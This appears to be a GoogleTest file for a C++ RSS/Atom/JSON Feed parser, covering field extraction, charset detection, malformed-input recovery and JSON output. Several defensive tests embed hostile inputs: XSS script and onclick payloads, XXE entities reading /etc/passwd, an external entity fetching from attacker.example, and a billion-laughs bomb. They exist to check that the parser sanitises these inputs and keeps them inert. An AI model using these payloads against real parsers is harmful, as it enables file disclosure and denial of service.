#include "feeds/parse.h"

#include <gtest/gtest.h>

#include <boost/json.hpp>

#include "feeds/date.h"
#include "feeds/parse_context.h"
#include "feeds/json_dump.h"
#include "feeds/writer.h"

namespace tributary::feeds {
namespace {

Feed parse_ok(std::string_view xml, Source src = {}) {
  auto f = parse(xml, src);
  EXPECT_TRUE(f) << (f ? "" : f.error().message);
  return f ? *f : Feed{};
}

TEST(RssParse, ReadsChannelAndItemFields) {
  Feed f = parse_ok(R"xml(<?xml version="1.0"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>Example &amp; Co</title><link>http://example.org/</link>
  <description>News from &lt;i&gt;Example&lt;/i&gt;</description>
  <language>en-us</language><ttl>60</ttl>
  <lastBuildDate>Tue, 10 Jun 2003 07:41:01 GMT</lastBuildDate>
  <item>
    <title>First post</title><link>/posts/1</link><guid isPermaLink="false">urn:example:1</guid>
    <pubDate>Tue, 10 Jun 2003 04:00:00 GMT</pubDate>
    <dc:creator>Jane Doe</dc:creator>
    <category domain="http://example.org/tags">news</category>
    <description>Short &lt;b&gt;summary&lt;/b&gt;</description>
    <content:encoded><![CDATA[<p>Full <a href="/more">text</a></p>]]></content:encoded>
    <enclosure url="http://example.org/a.mp3" type="audio/mpeg" length="12345"/>
    <comments>http://example.org/posts/1#comments</comments>
  </item>
</channel></rss>)xml",
                    Source{"http://example.org/feed.xml", "", "", ""});
  EXPECT_EQ(f.format, Format::rss20);
  EXPECT_EQ(f.encoding, "utf-8");
  EXPECT_FALSE(f.bozo);
  ASSERT_TRUE(f.meta.title);
  EXPECT_EQ(f.meta.title->value, "Example & Co");
  EXPECT_EQ(f.meta.title->type, kTextPlain);
  EXPECT_EQ(f.meta.link, "http://example.org/");
  EXPECT_EQ(f.meta.language, "en-us");
  EXPECT_EQ(f.meta.ttl, 60);
  EXPECT_EQ(format_rfc3339(*f.meta.updated), "2003-06-10T07:41:01Z");
  ASSERT_EQ(f.entries.size(), 1u);
  const Entry& e = f.entries[0];
  EXPECT_EQ(e.id, "urn:example:1");
  EXPECT_EQ(e.link, "http://example.org/posts/1");
  EXPECT_EQ(e.title->value, "First post");
  EXPECT_EQ(format_rfc3339(*e.published), "2003-06-10T04:00:00Z");
  ASSERT_EQ(e.authors.size(), 1u);
  EXPECT_EQ(e.authors[0].name, "Jane Doe");
  ASSERT_EQ(e.categories.size(), 1u);
  EXPECT_EQ(e.categories[0].scheme, "http://example.org/tags");
  EXPECT_EQ(e.summary->type, kTextHtml);
  EXPECT_EQ(e.summary->value, "Short <b>summary</b>");
  EXPECT_EQ(e.content->value, "<p>Full <a href=\"http://example.org/more\">text</a></p>");
  ASSERT_EQ(e.enclosures.size(), 1u);
  EXPECT_EQ(e.enclosures[0].length, 12345);
  EXPECT_EQ(e.comments, "http://example.org/posts/1#comments");
}

TEST(RssParse, PermalinkGuidBecomesTheLinkWhenThereIsNone) {
  Feed f = parse_ok(R"xml(<rss version="2.0"><channel><title>t</title>
<item><guid>http://example.org/p/1</guid></item>
<item><guid isPermaLink="false">http://example.org/p/2</guid></item></channel></rss>)xml");
  ASSERT_EQ(f.entries.size(), 2u);
  EXPECT_EQ(f.entries[0].link, "http://example.org/p/1");
  EXPECT_EQ(f.entries[1].link, "");
}

TEST(RssParse, ScriptInDescriptionIsSanitized) {
  Feed f = parse_ok(R"xml(<rss version="2.0"><channel><item>
<description>&lt;p onclick="x()"&gt;Hi&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</description>
</item></channel></rss>)xml");
  ASSERT_EQ(f.entries.size(), 1u);
  EXPECT_EQ(f.entries[0].summary->value, "<p>Hi</p>");
}

TEST(AtomParse, ReadsEntriesTextConstructsAndXmlBase) {
  Feed f = parse_ok(R"xml(<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://example.org/blog/">
<title type="html">A &lt;em&gt;blog&lt;/em&gt;</title><id>urn:blog</id>
<link href="/" rel="alternate"/><updated>2024-06-01T12:00:00+02:00</updated>
<author><name>Ann</name><email>ann@example.org</email></author>
<entry><title>Post</title><id>urn:blog:1</id><link href="posts/1"/>
  <published>2024-06-01T08:00:00Z</published><updated>2024-06-01T09:00:00Z</updated>
  <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Hi <a href="x">there</a></p></div></content>
</entry></feed>)xml");
  EXPECT_EQ(f.format, Format::atom10);
  EXPECT_EQ(f.meta.title->type, kTextHtml);
  EXPECT_EQ(f.meta.title->value, "A <em>blog</em>");
  EXPECT_EQ(f.meta.link, "http://example.org/");
  EXPECT_EQ(format_rfc3339(*f.meta.updated), "2024-06-01T10:00:00Z");
  ASSERT_EQ(f.meta.authors.size(), 1u);
  EXPECT_EQ(f.meta.authors[0].email, "ann@example.org");
  ASSERT_EQ(f.entries.size(), 1u);
  const Entry& e = f.entries[0];
  EXPECT_EQ(e.link, "http://example.org/blog/posts/1");
  EXPECT_EQ(e.content->type, kXhtml);  // inline XHTML keeps its media type
  EXPECT_EQ(e.content->value, "<p>Hi <a href=\"http://example.org/blog/x\">there</a></p>");
  // With no summary, the content doubles as one.
  EXPECT_EQ(e.summary, e.content);
}

TEST(Parse, DetectsLegacyCharsetsFromTheDeclaration) {
  // "Новости" in windows-1251.
  std::string doc = "<?xml version=\"1.0\" encoding=\"windows-1251\"?><rss version=\"2.0\"><channel>"
                    "<title>\xcd\xee\xe2\xee\xf1\xf2\xe8</title></channel></rss>";
  Feed f = parse_ok(doc);
  EXPECT_EQ(f.encoding, "windows-1251");
  EXPECT_EQ(f.meta.title->value, "\u041d\u043e\u0432\u043e\u0441\u0442\u0438");
  EXPECT_FALSE(f.bozo);
}

TEST(Parse, ByteOrderMarkWinsOverTheDeclaration) {
  std::string doc = "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><rss version=\"2.0\">"
                    "<channel><title>caf\xC3\xA9</title></channel></rss>";
  Feed f = parse_ok(doc);
  EXPECT_EQ(f.encoding, "utf-8");
  EXPECT_EQ(f.meta.title->value, "caf\u00e9");
}

TEST(Parse, InvalidUtf8SetsBozoAndNeverFails) {
  std::string doc = "<rss version=\"2.0\"><channel><title>caf\xE9</title></channel></rss>";
  Feed f = parse_ok(doc);
  EXPECT_TRUE(f.bozo);
  EXPECT_EQ(f.meta.title->value, "caf\u00e9");  // read as windows-1252
}

TEST(Parse, NotAFeedIsUnsupportedFormat) {
  auto f = parse("<html><body>hi</body></html>", {});
  ASSERT_FALSE(f);
  EXPECT_EQ(f.error().code, Errc::unsupported_format);
  auto g = parse("plain text", {});
  ASSERT_FALSE(g);
}

TEST(Parse, TruncatedDocumentKeepsWhatIsThereAndSetsBozo) {
  Feed f = parse_ok(R"xml(<rss version="2.0"><channel><title>t</title>
<item><title>One</title><guid>1</guid></item><item><title>Tw)xml");
  EXPECT_TRUE(f.bozo);
  ASSERT_GE(f.entries.size(), 1u);
  EXPECT_EQ(f.entries[0].title->value, "One");
}

TEST(Parse, ExternalEntitiesAreNeverExpanded) {
  Feed f = parse_ok(R"xml(<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>)xml");
  ASSERT_TRUE(f.meta.title);
  EXPECT_EQ(f.meta.title->value.find("root:"), std::string::npos);
}

TEST(JsonDump, AbsentValuesAreNullAndArraysAlwaysPresent) {
  Feed f = parse_ok("<rss version=\"2.0\"><channel><item><title>x</title></item></channel></rss>");
  auto j = to_json(f);
  EXPECT_EQ(j.at("format").as_string(), "rss20");
  EXPECT_TRUE(j.at("feed").as_object().at("title").is_null());
  EXPECT_TRUE(j.at("feed").as_object().at("links").is_array());
  const auto& e = j.at("entries").as_array().at(0).as_object();
  EXPECT_EQ(e.at("title").as_string(), "x");
  EXPECT_EQ(e.at("title_type").as_string(), "text/plain");
  EXPECT_TRUE(e.at("enclosures").as_array().empty());
  EXPECT_TRUE(e.at("source").is_null());
}

TEST(JsonDump, EntryRoundTripsThroughJson) {
  Feed f = parse_ok(R"xml(<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>T</title><id>i</id>
<link href="http://e.org/1"/><link rel="enclosure" href="http://e.org/a.mp3" length="5" type="audio/mpeg"/>
<author><name>A</name><uri>http://e.org/a</uri></author><category term="c" scheme="s"/>
<published>2024-01-01T00:00:00Z</published><summary>S</summary>
<source><id>urn:src</id><title>Src</title></source></entry></feed>)xml");
  ASSERT_EQ(f.entries.size(), 1u);
  EXPECT_EQ(entry_from_json(to_json(f.entries[0])), f.entries[0]);
}

TEST(JsonDump, DirectWriterMatchesTheJsonDom) {
  const char* docs[] = {
      "<rss version=\"2.0\"><channel><title>A \"q\" \\ \t</title><ttl>5</ttl><item><title>x</title>"
      "<enclosure url=\"http://e.org/a\" length=\"3\" type=\"t\"/><category domain=\"d\">c</category>"
      "<author>a@e.org (A)</author><pubDate>Wed, 31 Dec 2003 10:14:55 GMT</pubDate></item></channel></rss>",
      "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><source><title>S</title><logo>l.png</logo>"
      "</source><content type=\"html\">&lt;p&gt;\x01&lt;/p&gt;</content></entry></feed>",
      "not a feed",
  };
  for (const char* d : docs) {
    SCOPED_TRACE(d);
    Feed f = parse_document(d, Source{"http://e.org/", "", "", "en"});
    std::string direct;
    append_json(direct, f);
    EXPECT_EQ(direct, boost::json::serialize(to_json(f)));
  }
}

TEST(AtomWriter, WritesWellFormedEscapedXmlThatParsesBack) {
  OutputFeed out;
  out.id = "urn:tributary:output:all";
  out.title = "All & more";
  out.updated = Time{std::chrono::seconds{1'717'200'000}};
  OutputEntry oe;
  oe.entry.id = "urn:tributary:item:1";
  oe.entry.title = Text{"Putin's <b>\"plan\"</b> \x01", kTextPlain};
  oe.entry.link = "https://news.example/a?x=1&y=2";
  oe.entry.published = Time{std::chrono::seconds{1'717'100'000}};
  oe.entry.content = Text{"<p>Body &amp; soul</p>", kTextHtml};
  out.entries.push_back(oe);
  std::string xml = write_atom(out);
  Feed back = parse_ok(xml);
  EXPECT_FALSE(back.bozo);
  EXPECT_EQ(back.format, Format::atom10);
  ASSERT_EQ(back.entries.size(), 1u);
  EXPECT_EQ(back.entries[0].title->value, "Putin's <b>\"plan\"</b>");  // control char dropped, trimmed
  EXPECT_EQ(back.entries[0].link, "https://news.example/a?x=1&y=2");
  EXPECT_EQ(back.entries[0].content->value, "<p>Body &amp; soul</p>");
  EXPECT_EQ(back.entries[0].published, oe.entry.published);
}


// ---- dialects -----------------------------------------------------------------

TEST(Parse, RecognizesEveryDialect) {
  const std::pair<std::string, Format> cases[] = {
      {"<rss version=\"2.0\"><channel/></rss>", Format::rss20},
      {"<rss version=\"2.01\"><channel/></rss>", Format::rss20},
      {"<rss version=\"0.91\"><channel/></rss>", Format::rss091u},
      {"<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" "
       "\"http://my.netscape.com/publish/formats/rss-0.91.dtd\"><rss version=\"0.91\"/>",
       Format::rss091n},
      {"<rss version=\"0.92\"/>", Format::rss092},
      {"<rss version=\"0.93\"/>", Format::rss093},
      {"<rss version=\"0.94\"/>", Format::rss094},
      {"<rss/>", Format::rss},
      {"<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" "
       "xmlns=\"http://purl.org/rss/1.0/\"><channel/></rdf:RDF>",
       Format::rss10},
      {"<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" "
       "xmlns=\"http://my.netscape.com/rdf/simple/0.9/\"><channel/></rdf:RDF>",
       Format::rss090},
      {"<feed xmlns=\"http://www.w3.org/2005/Atom\"/>", Format::atom10},
      {"<feed version=\"0.3\" xmlns=\"http://purl.org/atom/ns#\"/>", Format::atom03},
      {"<feed/>", Format::atom},
      {"<CHANNEL HREF=\"http://e.org/\"><TITLE>t</TITLE></CHANNEL>", Format::cdf},
      {R"({"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": []})",
       Format::json11},
      {R"({"version": "https://jsonfeed.org/version/1", "items": []})", Format::json1},
      {"<html><body/></html>", Format::unknown},
  };
  for (const auto& [doc, format] : cases) {
    SCOPED_TRACE(doc);
    EXPECT_EQ(parse_document(doc, {}).format, format);
  }
}

TEST(Parse, ExtensionNamespacesAreMatchedByUriNotPrefix) {
  Feed f = parse_ok(R"xml(<rss version="2.0" xmlns:x="http://purl.org/dc/elements/1.1/"
  xmlns:c="http://purl.org/rss/1.0/modules/content/" xmlns:i="http://www.itunes.com/dtds/podcast-1.0.dtd"
  xmlns:m="http://search.yahoo.com/mrss/" xmlns:s="http://purl.org/rss/1.0/modules/syndication/">
<channel><s:updatePeriod>hourly</s:updatePeriod><s:updateFrequency>2</s:updateFrequency><ttl>45</ttl>
<i:image href="http://e.org/cover.jpg"/><i:category text="News"/>
<item><x:creator>Ann</x:creator><x:date>2024-06-01T10:00:00Z</x:date><c:encoded>&lt;p&gt;Body&lt;/p&gt;</c:encoded>
<m:category>world</m:category><i:keywords>a, b</i:keywords></item></channel></rss>)xml");
  EXPECT_FALSE(f.bozo);
  EXPECT_EQ(f.hints.sy_period, "hourly");
  EXPECT_EQ(f.hints.sy_frequency, 2);
  EXPECT_EQ(f.hints.ttl_minutes, 45);
  EXPECT_EQ(f.meta.ttl, 45);
  ASSERT_TRUE(f.meta.image);
  EXPECT_EQ(f.meta.image->url, "http://e.org/cover.jpg");
  ASSERT_EQ(f.meta.categories.size(), 1u);
  EXPECT_EQ(f.meta.categories[0].term, "News");
  EXPECT_EQ(f.meta.categories[0].scheme, "http://www.itunes.com/");
  ASSERT_EQ(f.entries.size(), 1u);
  const Entry& e = f.entries[0];
  ASSERT_EQ(e.authors.size(), 1u);
  EXPECT_EQ(e.authors[0].name, "Ann");
  EXPECT_EQ(format_rfc3339(*e.updated), "2024-06-01T10:00:00Z");
  EXPECT_FALSE(e.published);  // no fallback from one date to the other
  ASSERT_TRUE(e.content);
  EXPECT_EQ(e.content->value, "<p>Body</p>");
  EXPECT_EQ(e.summary, e.content);  // no description: the content doubles as summary
  ASSERT_EQ(e.categories.size(), 3u);
  EXPECT_EQ(e.categories[0].scheme, "http://search.yahoo.com/mrss/category_schema");
  EXPECT_EQ(e.categories[1].term, "a");
  EXPECT_EQ(e.categories[2].term, "b");
}

TEST(Parse, UndeclaredPrefixIsBozoButStillRead) {
  Feed f = parse_ok("<rss version=\"2.0\"><channel><item><dc:creator>Ann</dc:creator>"
                    "<title>t</title></item></channel></rss>");
  EXPECT_TRUE(f.bozo);
  ASSERT_EQ(f.entries.size(), 1u);
  EXPECT_EQ(f.entries[0].title->value, "t");
}

TEST(Parse, CdfChannelsAndItems) {
  Feed f = parse_ok(R"xml(<CHANNEL HREF="http://e.org/" LASTMOD="2003-12-31T10:14:55Z"><TITLE>Site</TITLE>
<ABSTRACT>About</ABSTRACT><ITEM HREF="http://e.org/1"><TITLE>One</TITLE><ABSTRACT>First</ABSTRACT></ITEM></CHANNEL>)xml");
  EXPECT_EQ(f.format, Format::cdf);
  EXPECT_EQ(f.meta.link, "http://e.org/");
  EXPECT_EQ(format_rfc3339(*f.meta.updated), "2003-12-31T10:14:55Z");
  EXPECT_EQ(f.meta.subtitle->value, "About");
  ASSERT_EQ(f.entries.size(), 1u);
  EXPECT_EQ(f.entries[0].link, "http://e.org/1");
  EXPECT_EQ(f.entries[0].summary->value, "First");
}

TEST(Parse, JsonFeedItems) {
  Feed f = parse_ok(R"({"version": "https://jsonfeed.org/version/1.1", "title": "J",
    "home_page_url": "https://e.org/", "authors": [{"name": "Ann"}], "items": [
    {"id": "1", "url": "/p/1", "title": "One", "content_html": "<p onclick=\"x()\">Hi</p>",
     "date_published": "2024-06-01T10:00:00+02:00", "tags": ["a"],
     "attachments": [{"url": "a.mp3", "mime_type": "audio/mpeg", "size_in_bytes": 5}]}]})",
                    Source{"https://e.org/feed.json", "application/feed+json", "", ""});
  EXPECT_EQ(f.format, Format::json11);
  EXPECT_EQ(f.meta.title->value, "J");
  ASSERT_EQ(f.entries.size(), 1u);
  const Entry& e = f.entries[0];
  EXPECT_EQ(e.link, "https://e.org/p/1");
  EXPECT_EQ(e.content->value, "<p>Hi</p>");
  EXPECT_EQ(format_rfc3339(*e.published), "2024-06-01T08:00:00Z");
  ASSERT_EQ(e.enclosures.size(), 1u);
  EXPECT_EQ(e.enclosures[0].url, "https://e.org/a.mp3");
  EXPECT_EQ(e.enclosures[0].length, 5);
}

// ---- text constructs, links, persons ---------------------------------------------

TEST(Parse, TextConstructsByTypeAndMode) {
  const std::pair<const char*, std::pair<const char*, const char*>> cases[] = {
      {"<title>2 &gt; 1</title>", {"2 > 1", "text/plain"}},
      {"<title type=\"html\">&lt;b&gt;x&lt;/b&gt;&lt;script&gt;y&lt;/script&gt;</title>",
       {"<b>x</b>", "text/html"}},
      {"<title type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><b>x</b></div></title>",
       {"<b>x</b>", "application/xhtml+xml"}},
      {"<title type=\"text\">Example <b>naked</b> markup</title>",
       {"Example <b>naked</b> markup", "application/xhtml+xml"}},
      {"<title type=\"text/html\" mode=\"base64\">PGI+eDwvYj4=</title>", {"<b>x</b>", "text/html"}},
  };
  for (const auto& [xml, want] : cases) {
    SCOPED_TRACE(xml);
    Feed f = parse_ok(std::string("<feed xmlns=\"http://www.w3.org/2005/Atom\">") + xml + "</feed>");
    ASSERT_TRUE(f.meta.title);
    EXPECT_EQ(f.meta.title->value, want.first);
    EXPECT_EQ(f.meta.title->type, want.second);
  }
}

TEST(Parse, RelativeUrisResolveAgainstXmlBaseThenContentLocationThenUrl) {
  const char* doc = R"xml(<feed xmlns="http://www.w3.org/2005/Atom"><link href="a"/>
<entry xml:base="/e/"><link href="b"/><content type="html">&lt;a href="c"&gt;x&lt;/a&gt;</content></entry></feed>)xml";
  Feed f = parse_ok(doc, Source{"http://h.org/dir/feed", "application/atom+xml", "/other/", ""});
  EXPECT_EQ(f.meta.link, "http://h.org/other/a");
  ASSERT_EQ(f.entries.size(), 1u);
  EXPECT_EQ(f.entries[0].link, "http://h.org/e/b");
  EXPECT_EQ(f.entries[0].content->value, "<a href=\"http://h.org/e/c\">x</a>");
  // An unsafe Content-Location is ignored.
  Feed g = parse_ok(doc, Source{"http://h.org/dir/feed", "", "javascript:alert(1)", ""});
  EXPECT_EQ(g.meta.link, "http://h.org/dir/a");
}

TEST(Parse, PersonsAreSplitIntoNameAndEmail) {
  const std::pair<const char*, std::pair<const char*, const char*>> cases[] = {
      {"Jane Doe", {"Jane Doe", ""}},
      {"jane@example.org", {"", "jane@example.org"}},
      {"Jane Doe (jane@example.org)", {"Jane Doe", "jane@example.org"}},
      {"jane@example.org (Jane Doe)", {"Jane Doe", "jane@example.org"}},
      {"Jane Doe <jane@example.org>", {"Jane Doe", "jane@example.org"}},
      // The top-level label ends the address, however long it is.
      {"zoe@news.example (Zoë Ŝmith)", {"Zoë Ŝmith", "zoe@news.example"}},
      {"Ŝmith <z@a.b.museum>", {"Ŝmith", "z@a.b.museum"}},
      {"z@news.example.com (Z)", {"Z", "z@news.example.com"}},
      // A trailing dot is not part of the address; no top-level label, no address.
      {"mail z@example.com.", {"mail .", "z@example.com"}},
      {"z@192.168.0.1 (Z)", {"Z", "z@192.168.0.1"}},
      {"z@localhost (Z)", {"z@localhost (Z)", ""}},
  };
  for (const auto& [text, want] : cases) {
    SCOPED_TRACE(text);
    Person p = detail::person_from_text(text);
    EXPECT_EQ(p.name, want.first);
    EXPECT_EQ(p.email, want.second);
  }
}

TEST(Parse, FirstAlternateLinkIsTheLinkAndEnclosuresAreLinksToo) {
  Feed f = parse_ok(R"xml(<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry>
<link rel="enclosure" type="audio/mpeg" href="http://e.org/a.mp3" length="9"/>
<link rel="alternate" type="text/html" href="http://e.org/1"/>
<link rel="alternate" type="text/html" href="http://e.org/2"/></entry></feed>)xml");
  ASSERT_EQ(f.entries.size(), 1u);
  const Entry& e = f.entries[0];
  EXPECT_EQ(e.link, "http://e.org/1");
  ASSERT_EQ(e.links.size(), 3u);
  ASSERT_EQ(e.enclosures.size(), 1u);
  EXPECT_EQ(e.enclosures[0].length, 9);
}

TEST(RssParse, ResolvesARelativeEnclosureUrl) {
  Source src;
  src.url = "http://e.org/feeds/digest.rss";
  Feed f = parse_ok(R"xml(<rss version="2.0"><channel><item><title>t</title>
<enclosure url="/media/clergy.mp3" length="987654" type="audio/mpeg"/></item></channel></rss>)xml",
                    src);
  ASSERT_EQ(f.entries.size(), 1u);
  ASSERT_EQ(f.entries[0].enclosures.size(), 1u);
  EXPECT_EQ(f.entries[0].enclosures[0].url, "http://e.org/media/clergy.mp3");
  ASSERT_EQ(f.entries[0].links.size(), 1u);
  EXPECT_EQ(f.entries[0].links[0].href, "http://e.org/media/clergy.mp3");
}

// ---- charsets -------------------------------------------------------------------

TEST(Parse, CharsetFollowsRfc3023) {
  struct Case {
    std::string doc;
    std::string content_type;
    std::string encoding;
    bool bozo;
  };
  const std::string ascii = "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><rss version=\"2.0\"/>";
  const Case cases[] = {
      {ascii, "", "iso-8859-1", false},
      {ascii, "application/xml", "iso-8859-1", false},
      {ascii, "application/xml; charset=utf-8", "utf-8", false},
      {ascii, "text/xml", "us-ascii", false},  // RFC 3023: the declaration is ignored
      {ascii, "text/xml; charset=windows-1252", "windows-1252", false},
      {ascii, "text/plain", "us-ascii", true},  // not an XML media type
      {"<?xml version=\"1.0\" encoding=\"gb2312\"?><rss version=\"2.0\"/>", "", "gb18030", false},
      {"<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><rss version=\"2.0\"><channel><title>"
       "caf\xC3\xA9</title></channel></rss>",
       "", "utf-8", true},  // declared Latin-1, is UTF-8
      {std::string("\xFF\xFE<\0r\0s\0s\0/\0>\0", 14), "", "utf-16le", false},
      // Not US-ASCII as text/xml says: ICU's detector finds Latin-1.
      {"<rss version=\"2.0\"><channel><title>caf\xE9</title></channel></rss>", "text/xml", "iso-8859-1",
       true},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.doc + " | " + c.content_type);
    Feed f = parse_document(c.doc, Source{"", c.content_type, "", ""});
    EXPECT_EQ(f.encoding, c.encoding);
    EXPECT_EQ(f.bozo, c.bozo) << f.bozo_reason;
  }
}

TEST(Parse, StrayBytesInUtf8AreReadAsWindows1252) {
  // A UTF-8 document with one windows-1252 byte keeps its UTF-8 text.
  Feed f = parse_ok("<rss version=\"2.0\"><channel><title>\xE2\x80\x9CQuote\xE2\x80\x9D caf\xE9"
                    "</title></channel></rss>");
  EXPECT_TRUE(f.bozo);
  EXPECT_EQ(f.encoding, "utf-8");
  EXPECT_EQ(f.meta.title->value, "\u201CQuote\u201D caf\u00e9");
}

// Thai UTF-8 (U+0E01-U+0E5B, three bytes each) to TIS-620 (0xA1-0xFB).
std::string to_tis620(std::string_view utf8) {
  std::string out;
  for (std::size_t i = 0; i < utf8.size(); ++i) {
    const auto b = static_cast<unsigned char>(utf8[i]);
    if (b < 0x80) {
      out += static_cast<char>(b);
      continue;
    }
    const unsigned cp = ((b & 0x0Fu) << 12) | ((static_cast<unsigned char>(utf8[i + 1]) & 0x3Fu) << 6) |
                        (static_cast<unsigned char>(utf8[i + 2]) & 0x3Fu);
    out += static_cast<char>(cp - 0x0E01 + 0xA1);
    i += 2;
  }
  return out;
}

TEST(Parse, UndeclaredThaiIsTis620AndLatin1StaysLatin1) {
  // Thai in TIS-620, no declaration anywhere (ICU guesses GB18030).
  const std::string text =
      "ข่าววันนี้ รัฐบาลประกาศนโยบายใหม่ เพื่อส่งเสริมซอฟต์แวร์โอเพนซอร์สในประเทศไทย "
      "ผู้สนใจสามารถส่งผลงานเข้าประกวดได้";
  Feed thai = parse_ok("<rss version=\"2.0\"><channel><title>" + to_tis620(text) + "</title></channel></rss>");
  EXPECT_TRUE(thai.bozo);
  EXPECT_EQ(thai.encoding, "tis-620");
  EXPECT_EQ(thai.meta.title->value, text);
  // Korean in EUC-KR falls in the same byte ranges, but in pairs.
  Feed korean = parse_ok("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>"
                         "\xb4\xeb\xc7\xd1\xb9\xce\xb1\xb9\xc0\xba \xb9\xce\xc1\xd6\xb0\xf8\xc8\xad\xb1\xb9"
                         "\xc0\xcc\xb4\xd9. \xbf\xc0\xb4\xc3 \xbc\xad\xbf\xef\xc0\xc7 \xb3\xaf\xbe\xbe\xb4\xc2 "
                         "\xb8\xbc\xb0\xed \xb1\xe2\xbf\xc2\xc0\xba \xc0\xfb\xb4\xe7\xc7\xd5\xb4\xcf\xb4\xd9."
                         "</title></channel></rss>");
  EXPECT_NE(korean.encoding, "tis-620");
  // French in Latin-1: accented letters between ASCII ones.
  Feed latin = parse_ok("<rss version=\"2.0\"><channel><title>D\xe9j\xe0 vu \xe0 la cr\xe8me br\xfbl\xe9" "e, "
                        "o\xf9 est ma fen\xeatre? \xc7" "a co\xfbte tr\xe8s cher, na\xefve \xe9l\xe8ve</title>"
                        "</channel></rss>");
  EXPECT_NE(latin.encoding, "tis-620");
  EXPECT_EQ(latin.meta.title->value, "Déjà vu à la crème brûlée, où est ma fenêtre? Ça coûte très cher, naïve élève");
}

// ---- recovery -------------------------------------------------------------------

TEST(Parse, RecoveredDocumentsKeepTheirItemsAndAreBozo) {
  const std::pair<const char*, const char*> cases[] = {
      {"bare ampersand", "<rss version=\"2.0\"><channel><item><title>Q&A</title></item></channel></rss>"},
      {"html entity", "<rss version=\"2.0\"><channel><item><title>Q&mdash;A</title></item></channel></rss>"},
      {"control character", "<rss version=\"2.0\"><channel><item><title>Q\x0b" "A</title></item></channel></rss>"},
      {"leading junk", "\n \n<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><item><title>QA</title></item></channel></rss>"},
      {"mismatched tags", "<rss version=\"2.0\"><channel><item><title>QA</title><b></item></channel></rss>"},
      {"unquoted attribute", "<rss version=\"2.0\"><channel><item><title>QA</title><guid isPermaLink=false>x</guid></item></channel></rss>"},
  };
  for (const auto& [name, doc] : cases) {
    SCOPED_TRACE(name);
    Feed f = parse_document(doc, {});
    EXPECT_TRUE(f.bozo);
    EXPECT_EQ(f.format, Format::rss20);
    ASSERT_EQ(f.entries.size(), 1u);
    ASSERT_TRUE(f.entries[0].title);
    EXPECT_NE(f.entries[0].title->value.find('Q'), std::string::npos);
  }
}

TEST(Parse, LongCdataSectionsReadAsWritten) {
  // The pre-pass moves long CDATA sections out of the text pugixml parses;
  // the walk puts them back, and a document that then fails still reports
  // its error at the offset in the document.
  const std::string words(200, 'y');
  const std::string item = "<item><title>t</title><description><![CDATA[<p>" + words +
                           " &amp; ]] > </p>]]></description></item>";
  Feed f = parse_document("<rss version=\"2.0\"><channel>" + item + "</channel></rss>", {});
  EXPECT_FALSE(f.bozo) << f.bozo_reason;
  ASSERT_EQ(f.entries.size(), 1u);
  ASSERT_TRUE(f.entries[0].summary);
  EXPECT_EQ(f.entries[0].summary->value, "<p>" + words + " &amp; ]] &gt; </p>");

  const std::string broken = "<rss version=\"2.0\"><channel>" + item + "</b></channel></rss>";
  Feed b = parse_document(broken, {});
  EXPECT_TRUE(b.bozo);
  const std::size_t at = b.bozo_reason.find(" at offset ");
  ASSERT_NE(at, std::string::npos) << b.bozo_reason;
  EXPECT_GE(std::stoul(b.bozo_reason.substr(at + 11)), broken.find("</b>")) << b.bozo_reason;
  ASSERT_EQ(b.entries.size(), 1u);
  ASSERT_TRUE(b.entries[0].summary);
  EXPECT_EQ(b.entries[0].summary->value, f.entries[0].summary->value);
}

TEST(Parse, WellFormedDocumentsAreNotBozo) {
  const char* cases[] = {
      "<rss version=\"2.0\"><channel><item><title>Q&amp;A &#8212; &#x2014;</title></item></channel></rss>",
      "<rss version=\"2.0\"><channel><item><description><![CDATA[<p>&nbsp;&</p>]]></description></item></channel></rss>",
      "<?xml version=\"1.0\"?>\n<!-- c --><rss version=\"2.0\"><channel/></rss>",
  };
  for (const char* doc : cases) {
    SCOPED_TRACE(doc);
    Feed f = parse_document(doc, {});
    EXPECT_FALSE(f.bozo) << f.bozo_reason;
  }
}

TEST(Parse, BillionLaughsAndXxeStayInert) {
  std::string laughs = R"(<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
 <!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;
]>
<rss version="2.0"><channel><title>&lol9;&xxe;</title><item><title>&lol;</title></item></channel></rss>)";
  Feed f = parse_document(laughs, {});
  EXPECT_EQ(f.format, Format::rss20);
  ASSERT_TRUE(f.meta.title);
  EXPECT_LT(f.meta.title->value.size(), 32u);
  EXPECT_EQ(f.meta.title->value.find("root:"), std::string::npos);
  ASSERT_EQ(f.entries.size(), 1u);
  EXPECT_EQ(f.entries[0].title->value, "lol");  // a plain declared entity is fine
}

TEST(Parse, DeepNestingDoesNotOverflowTheStack) {
  std::string doc = "<rss version=\"2.0\"><channel><item><description>";
  for (int i = 0; i < 200000; ++i) doc += "<b>";
  doc += "x</description></item></channel></rss>";
